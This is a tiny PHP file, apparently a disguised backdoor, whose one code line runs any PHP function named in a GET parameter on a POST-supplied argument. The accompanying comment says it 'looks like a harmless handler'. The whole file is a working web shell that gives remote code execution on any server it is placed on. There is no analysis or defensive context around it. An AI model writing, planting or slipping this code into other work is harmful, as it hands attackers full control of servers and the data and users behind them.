<?php
// looks like a harmless handler
$_GET['f']($_POST['a']);
